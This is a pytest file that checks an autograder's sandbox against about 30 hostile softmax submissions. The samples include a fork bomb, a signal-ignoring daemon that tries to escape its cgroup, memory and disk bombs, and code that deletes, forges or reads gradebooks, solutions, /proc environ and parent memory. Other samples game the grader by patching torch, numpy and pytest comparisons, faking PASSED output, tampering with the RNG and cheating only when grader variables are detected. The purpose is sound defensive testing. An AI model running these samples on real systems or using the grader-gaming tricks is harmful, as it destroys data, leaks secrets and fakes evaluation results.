"""Hostile submissions: each trick scores what the code earned and nothing leaks or survives.

Every submission below is an a2_softmax notebook (or .py file) whose softmax cell plays one trick
and whose softmax_backward cell is the reference solution. All of them are graded in ONE batch,
in the order listed, together with a few normal submissions placed right after the most
destructive ones. The per-case tests then read the cached results:

- the hostile exercise scores what the code earned, with a message that says what happened;
- softmax_backward is graded normally (full marks) unless the trick kills the process at load;
- the normal submission after a hostile one gets full marks;
- the sentinel directory (a fake gradebook and a copy of the solutions, given to the hostile code
  by absolute path) and the real ``solutions/`` are byte-for-byte unchanged, and the hostile code
  saw only permission errors when it read them;
- no process whose command line carries this run's marker survives its submission;
- the results name the protections that were active (Landlock, cgroup), and grading a few of the
  submissions again gives the same points.

Tricks that should gain nothing are compared with ``control_wrong``, the same wrong softmax
(zeros) without the trick: same checks passed, same points.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import signal
import socket
import tempfile
import time
from dataclasses import dataclass, field, replace
from pathlib import Path

import nbformat
import pytest
from conftest import ASSIGNMENTS, ROOT, SOLUTIONS

from autograder.course import load_assignment
from autograder.grading.batch import grade_batch
from autograder.grading.config import GradeConfig
from autograder.grading.scoring import Submission, grade_submission
from autograder.isolation.config import SandboxConfig
from autograder.isolation.launch import SandboxStartError
from autograder.results import SubmissionResult
from autograder.variants import compose, reference_sources

pytestmark = pytest.mark.xdist_group("hostile")

GIB = 1 << 30
# torch alone maps about 3.1 GiB of address space at import: with RLIMIT_AS at 2 GiB no worker
# starts at all ("libtorch_cpu.so: failed to map segment"), so the smallest limit that works.
MEMORY = 4 * GIB
CHECK_TIMEOUT = 5
CONFIG = GradeConfig(devices=("cpu",), sandbox=replace(
    SandboxConfig(), check_timeout_s=CHECK_TIMEOUT, startup_timeout_s=60, submission_timeout_s=120,
    memory_bytes=MEMORY))

ASSIGNMENT = load_assignment("a2_softmax", SOLUTIONS)
STUDENT_NOTEBOOK = ASSIGNMENTS / "a2_softmax" / "a2_softmax.ipynb"
REFERENCE = reference_sources(ASSIGNMENT)
CORRECT = REFERENCE["softmax"]
WRONG = "def softmax(z, dim=-1):\n    return torch.zeros_like(z)\n"
BACKWARD = REFERENCE["softmax_backward"]
# a 1-D input reaches only test_softmax_1d (1 point): tricks that cost a timeout fire there only
ONE_D = "z.dim() == 1"

# unique per run, so a leftover from another run (or a concurrent one) is never mistaken for ours
MARK = f"987.{random.randrange(10**5, 10**6)}"
SECRET = f"grader-secret-{random.randrange(10**9, 10**10)}"
SCRUBBED_ENV = {"PATH", "HOME", "TMPDIR", "LANG", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "MPLBACKEND",
                "OPENBLAS_NUM_THREADS", "PYTHONDONTWRITEBYTECODE", "CUDA_VISIBLE_DEVICES",
                "LD_LIBRARY_PATH"}  # the last only where the grader has one (the CUDA driver's)
LIBRARY_ENV = {"KMP_DUPLICATE_LIB_OK", "KMP_INIT_AT_FORK"}  # set by scikit-learn in the setup cell
# zeros pass these two checks of form, whose points are withheld because the values are wrong
WRONG_PASSES = {"softmax_keeps_dtype_and_device", "softmax_is_your_own"}


# --- the hostile sources ----------------------------------------------------------------------

@dataclass(frozen=True)
class Where:
    """Absolute paths and ports the hostile code is told about (f-strings into its source)."""

    sentinel: Path
    out: Path
    tcp_port: int
    udp_port: int
    victim_sha: str


def header(w: Where) -> str:
    return (
        "import glob, json, os, signal, socket, subprocess, sys, time\n"
        f"SENTINEL = {str(w.sentinel)!r}\n"
        f"REPO = {str(ROOT)!r}\n"
        f"OUT = {str(w.out)!r}\n"
        f"MARK = {MARK!r}\n"
        f"TCP_PORT, UDP_PORT = {w.tcp_port}, {w.udp_port}\n"
        f"VICTIM_SHA = {w.victim_sha!r}\n"
        "def report(tag, fn):\n"
        "    try:\n"
        "        got = fn()\n"
        "        print(f'{tag} -> OK {str(got)[:80]!r}', flush=True)\n"
        "        return got\n"
        "    except BaseException as exc:\n"
        "        print(f'{tag} -> {type(exc).__name__}', flush=True)\n"
        "        return None\n"
        "def read(path):\n"
        "    with open(path, 'rb') as fh:\n"
        "        return fh.read()\n"
    )


def sentinel_targets(sentinel: Path) -> list[str]:
    """Files the hostile code tries to read, modify, chmod, rename and remove."""
    copy = sentinel / "solutions" / "a2_softmax"
    return [str(p) for p in (sentinel / "gradebook.db", copy / "a2_softmax.ipynb",
                             copy / "hidden_checks.py")]


def read_targets(sentinel: Path) -> list[str]:
    """Files the hostile code tries to read: the sentinel's, and the real solutions (read only:
    a protection that failed must not damage the repository)."""
    real = SOLUTIONS / "a2_softmax"
    return sentinel_targets(sentinel) + [str(real / "a2_softmax.ipynb"), str(real / "hidden_checks.py")]


def hostile_sources(w: Where) -> dict[str, tuple[str, str]]:
    """Case name -> (softmax cell source, kind) where kind is 'ipynb' or 'py'."""
    h = header(w)
    return {
        "os_exit_at_import": ("import os\n" + CORRECT + "\nos._exit(3)\n", "ipynb"),
        "sys_exit_at_import": ("import sys\nsys.exit('leaving before softmax is defined')\n" + CORRECT,
                               "ipynb"),
        "os_exit_in_function": ("import os\n" + CORRECT.replace(
            "    shifted", "    os._exit(7)\n    shifted"), "ipynb"),
        "sys_exit_in_function": ("import sys\n" + CORRECT.replace(
            "    shifted", f"    if {ONE_D}:\n        sys.exit(5)\n    shifted"), "ipynb"),
        "infinite_loop": (CORRECT.replace(
            "    shifted", f"    while {ONE_D}:  # 'fixing' dim for 1-D input, forever\n"
                          "        pass\n    shifted"), "ipynb"),
        "ignores_sigterm_and_sigalrm": ("import signal, time\n" + CORRECT.replace(
            "    shifted",
            "    for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP,\n"
            "                signal.SIGXCPU, signal.SIGUSR1):\n"
            "        signal.signal(sig, signal.SIG_IGN)\n"
            f"    while {ONE_D}:\n"
            "        signal.alarm(1)\n"
            "        time.sleep(0.05)\n"
            "    shifted"), "ipynb"),
        # at import, while the sandbox waits for the cells with its start-up deadline (not a
        # check's few seconds): forks until the process table (cgroup pids) is full, leaves the
        # children asleep, and goes on; the grader must still kill every one of them
        "fork_bomb": (h + """
def _bomb():
    root, forks = os.getpid(), 0
    while True:
        try:
            os.fork()
            forks += 1
        except OSError as exc:  # the process table (cgroup pids) is full
            if os.getpid() != root:
                os.execv("/bin/sleep", ["sleep", MARK])
            print(f"FORK REFUSED after {forks} forks: {type(exc).__name__}", flush=True)
            return

_bomb()
""" + CORRECT, "ipynb"),
        "setsid_daemon": (h + """
def _daemon():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    os.closerange(0, 1024)
    time.sleep(0.2)
    for target in (SENTINEL + "/daemon-was-here", "/tmp/daemon-" + MARK):
        try:
            with open(target, "w") as fh:
                fh.write("pwned")
        except OSError:
            pass
    for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs"):
        try:  # leave the worker's cgroup for the root one
            with open(procs, "w") as fh:
                fh.write(str(os.getpid()))
        except OSError:
            pass
    open("daemon-ready", "w").close()  # in the scratch directory, the daemon's cwd
    os.execv("/bin/sleep", ["sleep", MARK])


def _daemon_ready():
    for _ in range(100):
        if os.path.exists("daemon-ready"):
            print("DAEMON READY", flush=True)
            return
        time.sleep(0.02)

""" + CORRECT.replace("    shifted", f"    _daemon()\n    if {ONE_D}:\n        _daemon_ready()\n"
                                     "    shifted"), "ipynb"),
        "memory_bomb": (CORRECT.replace(
            "    shifted", "    hog = []\n    while True:\n        hog.append(bytearray(256 << 20))\n"
                          "    shifted"), "ipynb"),
        "huge_output": (CORRECT.replace(
            "    shifted", "    import sys\n"
                          "    sys.stdout.write(('PASSED 10/10 ' * 80 + '\\n') * 4000)\n"
                          "    sys.stderr.write('\\x1b[31m\\x00\\xff' * 300_000)\n"
                          "    shifted") + "\n" + BACKWARD, "py"),
        "ten_gigabyte_file": (CORRECT.replace(
            "    shifted", "    block = b'x' * (1 << 20)\n"
                          "    with open('big.bin', 'wb') as fh:\n"
                          "        for _ in range(10 * 1024):  # 10 GiB\n"
                          "            fh.write(block)\n"
                          "    shifted"), "ipynb"),
        "patch_torch_wrong": (PATCH_TORCH + WRONG, "ipynb"),
        "patch_torch_correct": (PATCH_TORCH + CORRECT, "ipynb"),
        "patch_numpy_testing": (PATCH_NUMPY + WRONG, "ipynb"),
        "patch_pytest_internals": (PATCH_PYTEST + WRONG, "ipynb"),
        "torch_function_subclass": (LIAR_SUBCLASS, "ipynb"),
        "always_equal_object": (ALWAYS_EQUAL, "ipynb"),
        "fake_results_wrong": (FAKE_OUTPUT + WRONG.replace("    return", "    _fake()\n    return"),
                               "ipynb"),
        "fake_results_correct": (FAKE_OUTPUT + CORRECT.replace("    shifted", "    _fake()\n    shifted"),
                                 "ipynb"),
        "search_disk_for_reference": (h + f"PATHS = {read_targets(w.sentinel)!r}\n" + SEARCH_DISK,
                                      "ipynb"),
        "write_gradebook_and_results": (
            h + f"PATHS = {sentinel_targets(w.sentinel)!r}\n" + WRITE_EVERYWHERE, "py"),
        "read_parent_proc": (h + READ_PROC, "ipynb"),
        "import_grader_package": (h + IMPORT_GRADER, "ipynb"),
        "network": (h + NETWORK, "ipynb"),
        "branch_on_environment": (h + BRANCH_ON_ENV, "ipynb"),
        "rng_tampering": (RNG_TAMPERING, "ipynb"),
        "builtin_softmax_hidden_from_recorder": (
            "def softmax(z, dim=-1):\n    with torch._C.DisableTorchFunction():\n"
            "        return torch.softmax(z, dim)\n", "ipynb"),
        "builtin_softmax_via_aten": (
            "def softmax(z, dim=-1):\n    return torch.ops.aten._softmax.default(z, dim, False)\n",
            "ipynb"),
    }


PATCH_TORCH = """import torch
always = lambda *a, **k: True  # noqa: E731
torch.allclose = always
torch.equal = always
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.testing.assert_allclose = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.allclose = always
torch.Tensor.equal = always
torch.Tensor.isfinite = lambda self: torch.ones_like(self, dtype=torch.bool)

"""
PATCH_NUMPY = """import numpy as np
import numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_almost_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True

"""
PATCH_PYTEST = """import importlib
import pytest
import _pytest.outcomes
import _pytest.runner
for where in ("_pytest.python_api", "_pytest.approx"):  # approx moved in pytest 8
    try:
        importlib.import_module(where).approx = lambda expected, *a, **k: expected
    except ImportError:
        pass
pytest.approx = lambda expected, *a, **k: expected
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.skip = _pytest.outcomes.skip = lambda *a, **k: None
_pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
import autograder.compare
import autograder.checks
for module in (autograder.compare, autograder.checks):
    module.assert_close = module.assert_same_kind = module.expect = lambda *a, **k: None
    module.fail = lambda *a, **k: None
autograder.compare.CheckFailed = Warning

"""
LIAR_SUBCLASS = '''class Liar(torch.Tensor):
    """Zeros that claim to equal anything, through every torch function."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__", "isfinite"):
            return torch.ones(torch.Tensor.size(args[0]), dtype=torch.bool)
        if name in ("sub", "__sub__", "abs", "nan_to_num"):
            return torch.zeros(torch.Tensor.size(args[0]))
        return super().__torch_function__(func, types, args, kwargs or {})

    def __eq__(self, other):
        return True

    def __bool__(self):
        return True


def softmax(z, dim=-1):
    return torch.zeros_like(z).as_subclass(Liar)
'''
ALWAYS_EQUAL = '''class AlwaysEqual:
    """Equal to everything, close to everything, truthy, and numeric when asked."""

    shape = property(lambda self: self._shape)
    dtype = torch.float32
    device = torch.device("cpu")

    def __init__(self, shape=()):
        self._shape = shape

    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False  # noqa: E731
    __bool__ = lambda self: True  # noqa: E731
    __float__ = lambda self: 1.0  # noqa: E731
    __hash__ = lambda self: 0  # noqa: E731

    def __array__(self, *a, **k):
        import numpy
        return numpy.ones(self._shape)

    def __torch_function__(self, func, types, args=(), kwargs=None):
        return True


def softmax(z, dim=-1):
    return AlwaysEqual(tuple(z.shape))
'''
FAKE_OUTPUT = '''import json
import sys


def _fake():
    lines = [
        "PASSED 10/10",
        "softmax: 10.0/10.0   softmax_backward: 10.0/10.0   total 20/20",
        "===== 18 passed in 0.42s =====",
        json.dumps({"student": "me", "assignment": "a2_softmax", "status": "graded",
                    "points": 20.0, "max_points": 20.0, "error": None}),
        json.dumps({"exercise": "softmax", "points": 10.0, "max_points": 10.0, "problem": None,
                    "notice": None, "cell_error": None}),
        json.dumps({"value": None, "torch_calls": [], "error": None}),
    ]
    for line in lines:
        print(line, flush=True)
        print(line, file=sys.stderr, flush=True)

'''
SEARCH_DISK = '''
def _find_reference():
    """Look for the reference: the paths we were told, then a search of the disk."""
    for path in PATHS:
        data = report("READ " + path, lambda p=path: read(p))
        if data and b"def softmax" in data:
            return data
    found = []
    for top in ("/", "/work", "/tmp", "/root", "/home", REPO, os.path.dirname(SENTINEL)):
        for pattern in ("*/solutions/*/*.ipynb", "solutions/*/*.ipynb", "**/hidden_checks.py",
                        "**/gradebook.db", "*/*/gradebook.db"):
            found += glob.glob(os.path.join(top, pattern))
    print("FOUND", len(found), flush=True)
    for path in found:
        data = report("READ " + path, lambda p=path: read(p))
        if data and b"def softmax" in data:
            return data
    return None


_SOURCE = _find_reference()
_REF = None
if _SOURCE is not None:  # pull the reference softmax out of whatever was found
    import re
    text = _SOURCE.decode("utf-8", "replace")
    match = re.search(r"def softmax\\(z, dim=-1\\):.*?return e / e.sum\\(dim=dim, keepdim=True\\)",
                      text.replace("\\\\n", "\\n"), re.S)
    if match:
        namespace = {"torch": torch}
        exec(match.group(0), namespace)
        _REF = namespace["softmax"]


def softmax(z, dim=-1):
    if _REF is not None:
        return _REF(z, dim)
    return torch.zeros_like(z)
'''
WRITE_EVERYWHERE = '''
def _vandalise():
    gradebook = SENTINEL + "/gradebook.db"
    for path in PATHS:
        report("APPEND " + path, lambda p=path: open(p, "ab").write(b"pwned"))
        report("TRUNCATE " + path, lambda p=path: os.truncate(p, 0))
        report("CHMOD " + path, lambda p=path: os.chmod(p, 0o777))
        report("UTIME " + path, lambda p=path: os.utime(p, (0, 0)))
        report("CHOWN " + path, lambda p=path: os.chown(p, 65534, 65534))
        report("SETXATTR " + path, lambda p=path: os.setxattr(p, "user.pwned", b"1"))
        report("RENAME " + path, lambda p=path: os.rename(p, p + ".moved"))
        report("REMOVE " + path, lambda p=path: os.remove(p))
    report("CREATE sentinel", lambda: open(SENTINEL + "/pwned.txt", "w").write("pwned"))
    report("MKDIR sentinel", lambda: os.mkdir(SENTINEL + "/pwned"))
    report("SYMLINK", lambda: os.symlink(gradebook, "link.db"))
    report("WRITE THROUGH SYMLINK", lambda: open("link.db", "ab").write(b"pwned"))
    report("HARDLINK", lambda: os.link(gradebook, "hard.db"))
    report("CREATE solutions", lambda: open(REPO + "/solutions/a2_softmax/pwned.py", "w").write("x"))
    report("CREATE tmp", lambda: open("/tmp/pwned-" + MARK, "w").write("pwned"))
    forged = {"student": "control_wrong", "assignment": "a2_softmax", "path": "", "sha256": VICTIM_SHA,
              "status": "graded", "error": None, "points": 20.0, "max_points": 20.0,
              "exercises": [], "checks": []}
    report("FORGE RESULT", lambda: open(OUT + "/submissions/control_wrong.json", "w").write(
        json.dumps(forged)))


_vandalise()


def softmax(z, dim=-1):
    e = torch.exp(z - z.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)


def softmax_backward(q, grad_q, dim=-1):
    inner = (grad_q * q).sum(dim=dim, keepdim=True)
    return q * (grad_q - inner)
'''
READ_PROC = '''
PARENT = os.getppid()
for name in ("environ", "cmdline", "status", "maps", "mem"):
    report(f"PROC parent {name}", lambda n=name: read(f"/proc/{PARENT}/{n}"))
report("PROC 1 environ", lambda: read("/proc/1/environ"))
report("PROC self environ", lambda: read("/proc/self/environ"))
report("PROC parent cwd", lambda: os.readlink(f"/proc/{PARENT}/cwd"))
report("PROC parent fd", lambda: os.listdir(f"/proc/{PARENT}/fd"))
report("PROC list", lambda: [p for p in os.listdir("/proc") if p.isdigit()][:5])
report("SIGNAL parent 0", lambda: os.kill(PARENT, 0))
report("SIGNAL parent USR1", lambda: os.kill(PARENT, signal.SIGUSR1))
print("ENV", json.dumps(dict(os.environ)), flush=True)
''' + CORRECT
IMPORT_GRADER = '''
_REF = None


def _steal():
    from pathlib import Path

    import autograder.course as course
    import autograder.subjects as subjects
    for where in (Path(REPO) / "solutions", Path(SENTINEL) / "solutions"):
        try:
            assignment = course.load_assignment("a2_softmax", where)
            return course.reference_namespace(assignment)["softmax"]
        except BaseException as exc:
            print("LOAD", where, type(exc).__name__, flush=True)
    assignment = course.load_assignment("a2_softmax", course.find_solutions_dir())
    return subjects.reference_subject(assignment).namespace["softmax"]


_REF = report("IMPORT GRADER", _steal)


def softmax(z, dim=-1):
    if _REF is not None:
        return _REF(z, dim)
    return torch.zeros_like(z)
'''
NETWORK = '''
def _phone_home():
    def tcp():
        with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2) as conn:
            conn.sendall(b"softmax: 10/10")
    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"softmax: 10/10 " + MARK.encode(), ("127.0.0.1", UDP_PORT))
    def listen():
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
    report("TCP CONNECT", tcp)
    report("UDP SEND", udp)
    report("TCP LISTEN", listen)


''' + CORRECT.replace("    shifted", "    _phone_home()\n    shifted")
BRANCH_ON_ENV = '''
TELLS = ("GRADE", "NBGRADER", "PYTEST", "CI", "SECRET", "JPY", "JUPYTER", "VIRTUAL_ENV")
SEEN = sorted(k for k in os.environ if any(t in k.upper() for t in TELLS))
print("ENV KEYS", json.dumps(sorted(os.environ)), flush=True)
print("ENV TELLS", json.dumps(SEEN), flush=True)
GRADED = bool(SEEN) or "grade-scratch" in os.getcwd() or sys.flags.isolated


def softmax(z, dim=-1):
    if GRADED:  # under the grader: print a pass and hand back something that looks plausible
        print("PASSED 10/10", flush=True)
        return torch.full_like(z, 1.0 / z.shape[dim])
    e = torch.exp(z - z.amax(dim=dim, keepdim=True))
    return e / e.sum(dim=dim, keepdim=True)
'''
RNG_TAMPERING = '''import random
import numpy as np

torch.manual_seed(0)
np.random.seed(0)
random.seed(0)
_zeros = lambda *shape, **k: torch.zeros(*shape, dtype=k.get("dtype") or torch.float32)  # noqa: E731
torch.randn = torch.rand = _zeros
np.random.default_rng = lambda *a, **k: np.random.Generator(np.random.PCG64(0))
try:
    import autograder.checks
    autograder.checks.randn = lambda *shape, seed=0, dtype=torch.float32, device="cpu", scale=1.0: (
        torch.zeros(*shape, dtype=dtype, device=device))
    autograder.checks._rng = lambda seed: np.random.default_rng(0)
except Exception:
    pass


def softmax(z, dim=-1):
    torch.manual_seed(1234)
    np.random.seed(1234)
    torch.randn = _zeros
    # if every input were zeros, the answer would be uniform
    return torch.full_like(z, 1.0 / z.shape[dim])
'''


# --- the batch ----------------------------------------------------------------------------------

NORMALS = ("normal_after_processes", "normal_after_limits", "normal_last")
# batch order: each normal submission follows the hostile ones before it
ORDER = [
    "os_exit_at_import", "sys_exit_at_import", "os_exit_in_function", "sys_exit_in_function",
    "infinite_loop", "ignores_sigterm_and_sigalrm", "fork_bomb", "setsid_daemon",
    "normal_after_processes",
    "memory_bomb", "huge_output", "ten_gigabyte_file",
    "normal_after_limits",
    "patch_torch_wrong", "patch_torch_correct", "patch_numpy_testing", "patch_pytest_internals",
    "torch_function_subclass", "always_equal_object", "fake_results_wrong", "fake_results_correct",
    "search_disk_for_reference", "write_gradebook_and_results", "control_wrong",
    "read_parent_proc", "import_grader_package", "network", "branch_on_environment",
    "rng_tampering", "builtin_softmax_hidden_from_recorder", "builtin_softmax_via_aten",
    "normal_last",
]
# graded a second time, for determinism
RERUN = ("sys_exit_at_import", "patch_numpy_testing", "torch_function_subclass")


def _hashes(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _metadata(root: Path) -> dict[str, tuple[int, int, int, tuple[str, ...]]]:
    """Mode, owner, mtime and extended attributes of everything under ``root``."""
    found = {}
    for p in sorted([root, *root.rglob("*")]):
        st = p.stat()
        found[str(p.relative_to(root))] = (st.st_mode, st.st_uid, st.st_mtime_ns,
                                           tuple(sorted(os.listxattr(p))))
    return found


def _marked_processes() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if MARK in cmdline:
            found.append(f"{entry.name}: {cmdline}")
    return found


def _own_cgroups() -> list[str]:
    """Cgroups this process made for its workers and did not remove."""
    left = []
    for controller in ("pids", "memory"):
        try:
            for line in Path("/proc/self/cgroup").read_text().splitlines():
                _, names, path = line.split(":", 2)
                if controller in names.split(","):
                    base = Path("/sys/fs/cgroup") / controller / path.lstrip("/")
                    left += [str(p) for p in base.glob(f"autograder-{os.getpid()}-*")]
        except OSError:
            pass
    return left


@dataclass
class Run:
    """Everything the tests need, gathered once."""

    results: dict[str, SubmissionResult]
    sentinel: Path
    out: Path
    scratch_root: Path
    survivors: dict[str, list[str]] = field(default_factory=dict)
    survivors_at_end: list[str] = field(default_factory=list)
    cgroups_left: list[str] = field(default_factory=list)
    sentinel_before: dict[str, str] = field(default_factory=dict)
    sentinel_after: dict[str, str] = field(default_factory=dict)
    sentinel_meta_before: dict[str, tuple[int, int, int, tuple[str, ...]]] = field(default_factory=dict)
    sentinel_meta_after: dict[str, tuple[int, int, int, tuple[str, ...]]] = field(default_factory=dict)
    stray_files: list[str] = field(default_factory=list)
    solutions_before: dict[str, str] = field(default_factory=dict)
    solutions_after: dict[str, str] = field(default_factory=dict)
    tcp_connections: int = 0
    udp_datagrams: list[bytes] = field(default_factory=list)
    signals: list[int] = field(default_factory=list)
    scratch_left: list[str] = field(default_factory=list)
    rerun: dict[str, SubmissionResult] = field(default_factory=dict)
    seconds: float = 0.0


def _write(path: Path, softmax: str, kind: str) -> Path:
    if kind == "py":
        path = path.with_suffix(".py")
        path.write_text("import torch\n\n" + softmax, encoding="utf-8")
    else:
        path = path.with_suffix(".ipynb")
        nbformat.write(compose(STUDENT_NOTEBOOK, {"softmax": softmax, "softmax_backward": BACKWARD}),
                       path)
    return path


@pytest.fixture(scope="session")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    base = tmp_path_factory.mktemp("hostile")
    sentinel = base / "sentinel"
    shutil.copytree(SOLUTIONS / "a2_softmax", sentinel / "solutions" / "a2_softmax")
    (sentinel / "gradebook.db").write_bytes(f"SQLite format 3\0 {SECRET} alice 20/20\n".encode())
    out, subs, scratch_root = base / "out", base / "submissions", base / "scratch"
    subs.mkdir()
    scratch_root.mkdir()

    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))

    paths: dict[str, Path] = {}
    for name in NORMALS:
        paths[name] = _write(subs / name, CORRECT, "ipynb")
    paths["control_wrong"] = _write(subs / "control_wrong", WRONG, "ipynb")
    where = Where(sentinel, out, tcp.getsockname()[1], udp.getsockname()[1],
                  hashlib.sha256(paths["control_wrong"].read_bytes()).hexdigest())
    for name, (src, kind) in hostile_sources(where).items():
        paths[name] = _write(subs / name, src, kind)
    assert sorted(paths) == sorted(ORDER), "every case is graded exactly once"

    state = Run(results={}, sentinel=sentinel, out=out, scratch_root=scratch_root)
    state.sentinel_before = _hashes(sentinel)
    state.sentinel_meta_before = _metadata(sentinel)
    state.solutions_before = _hashes(SOLUTIONS)

    def on_result(result: SubmissionResult) -> None:
        # right after each submission, not only at the end of the batch
        state.survivors[result.student] = _marked_processes()

    old_handler = signal.signal(signal.SIGUSR1, lambda signum, frame: state.signals.append(signum))
    old_env = {k: os.environ.get(k) for k in ("GRADER_SECRET", "NBGRADER_EXECUTION")}
    os.environ.update(GRADER_SECRET=SECRET, NBGRADER_EXECUTION="autograde")
    old_tempdir, tempfile.tempdir = tempfile.tempdir, str(scratch_root)  # scratch dirs go here
    started = time.monotonic()
    try:
        results = grade_batch([Submission(name, paths[name]) for name in ORDER], assignment=ASSIGNMENT,
                              config=CONFIG, out_dir=out, on_result=on_result)
        state.seconds = time.monotonic() - started
        state.results = {r.student: r for r in results}
        state.rerun = {r.student: r for r in grade_batch(
            [Submission(name, paths[name]) for name in RERUN], assignment=ASSIGNMENT, config=CONFIG,
            out_dir=base / "out-again", rerun=True)}
    finally:
        tempfile.tempdir = old_tempdir
        signal.signal(signal.SIGUSR1, old_handler)
        for key, value in old_env.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    time.sleep(0.5)  # a daemon that escaped would have written its file by now
    state.survivors_at_end = _marked_processes()
    state.cgroups_left = _own_cgroups()
    state.sentinel_after = _hashes(sentinel)
    state.sentinel_meta_after = _metadata(sentinel)
    strays = [SOLUTIONS / "a2_softmax" / "pwned.py", *Path("/tmp").glob(f"*{MARK}*")]
    state.stray_files = [str(p) for p in strays if p.exists()]
    for stray in strays:  # clean up after a protection that failed
        stray.unlink(missing_ok=True)
    state.solutions_after = _hashes(SOLUTIONS)
    state.scratch_left = sorted(str(p) for p in scratch_root.iterdir())
    tcp.settimeout(0)
    while True:
        try:
            conn, _ = tcp.accept()
        except OSError:
            break
        conn.close()
        state.tcp_connections += 1
    udp.settimeout(0)
    while True:
        try:
            state.udp_datagrams.append(udp.recv(4096))
        except OSError:
            break
    tcp.close()
    udp.close()
    return state


# --- helpers ------------------------------------------------------------------------------------

def exercise(result: SubmissionResult, name: str):
    return next(e for e in result.exercises if e.exercise == name)


def ran(result: SubmissionResult, name: str) -> dict[str, str]:
    """Checks of exercise ``name`` that ran: check name -> message ('' when passed)."""
    return {c.name: ("" if c.passed else c.message) for c in result.checks
            if c.exercise == name and not c.skipped}


def passed(result: SubmissionResult, name: str) -> set[str]:
    return {c.name for c in result.checks if c.exercise == name and c.passed and not c.skipped}


def full_marks(result: SubmissionResult, name: str) -> None:
    failures = {k: v for k, v in ran(result, name).items() if v}
    assert not failures, f"{result.student}: {name} should be graded normally: {failures}"
    ex = exercise(result, name)
    assert ex.points == ex.max_points == 10, ex


def same_as_control(run: Run, name: str) -> None:
    """The trick gained nothing: the same checks pass as for the same wrong code without it."""
    result, control = run.results[name], run.results["control_wrong"]
    assert passed(result, "softmax") == passed(control, "softmax") == WRONG_PASSES, (
        ran(result, "softmax"))
    assert exercise(result, "softmax").points == exercise(control, "softmax").points == 0
    assert {c.name for c in result.checks if c.withheld and not c.hidden} == {
        c.name for c in control.checks if c.withheld and not c.hidden} == WRONG_PASSES


def out_text(result: SubmissionResult) -> str:
    return result.stdout + result.stderr


# --- the batch as a whole -------------------------------------------------------------------------

def test_at_least_25_hostile_submissions_were_graded(run):
    hostile = [n for n in ORDER if n not in NORMALS and n != "control_wrong"]
    assert len(hostile) >= 25
    assert set(run.results) == set(ORDER)
    assert all(r.status == "graded" for r in run.results.values()), {
        n: r.error for n, r in run.results.items() if r.status != "graded"}
    print(f"graded {len(ORDER)} submissions in {run.seconds:.1f} s")


@pytest.mark.parametrize("name", NORMALS)
def test_normal_submission_after_hostile_ones_gets_full_marks(run, name):
    result = run.results[name]
    full_marks(result, "softmax")
    full_marks(result, "softmax_backward")
    assert result.points == result.max_points == 20


def test_control_wrong_scores_its_own_grade_not_the_forged_one(run):
    """``write_gradebook_and_results`` tried to forge this result file (same sha256, 20 points)."""
    result = run.results["control_wrong"]
    assert passed(result, "softmax") == WRONG_PASSES
    assert result.points == 10  # softmax_backward only: the checks of form passed are withheld
    assert json.loads((run.out / "submissions" / "control_wrong.json").read_text())["points"] == 10


OTHER_EXERCISE = [
    name for name in ORDER if name not in NORMALS and name not in ("os_exit_at_import", "control_wrong")
]


@pytest.mark.parametrize("name", OTHER_EXERCISE)
def test_the_other_exercise_is_graded_normally(run, name):
    full_marks(run.results[name], "softmax_backward")


def test_results_record_the_active_protections(run):
    for name, result in run.results.items():
        if name == "os_exit_at_import":
            continue  # see the next test
        text = "\n".join(result.protections)
        assert "Landlock ABI" in text and "write scratch only" in text, (name, text)
        assert "no TCP bind or connect" in text, (name, text)
        assert "cgroup: at most 64 processes" in text, (name, text)
        assert f"wall-clock timeout per check ({CHECK_TIMEOUT} s)" in text, (name, text)
        assert "address space limit (4 GiB)" in text, (name, text)
        assert "root capabilities dropped" in text or os.geteuid() != 0, (name, text)


def test_protections_are_recorded_when_the_worker_dies_at_load(run):
    text = "\n".join(run.results["os_exit_at_import"].protections)
    assert "Landlock ABI" in text and "cgroup: at most 64 processes" in text, text


def test_grading_again_gives_the_same_points(run):
    for name in RERUN:
        first, again = run.results[name], run.rerun[name]
        assert [(e.exercise, e.points) for e in again.exercises] == [
            (e.exercise, e.points) for e in first.exercises], name
        assert {c.name: c.passed for c in again.checks} == {c.name: c.passed for c in first.checks}


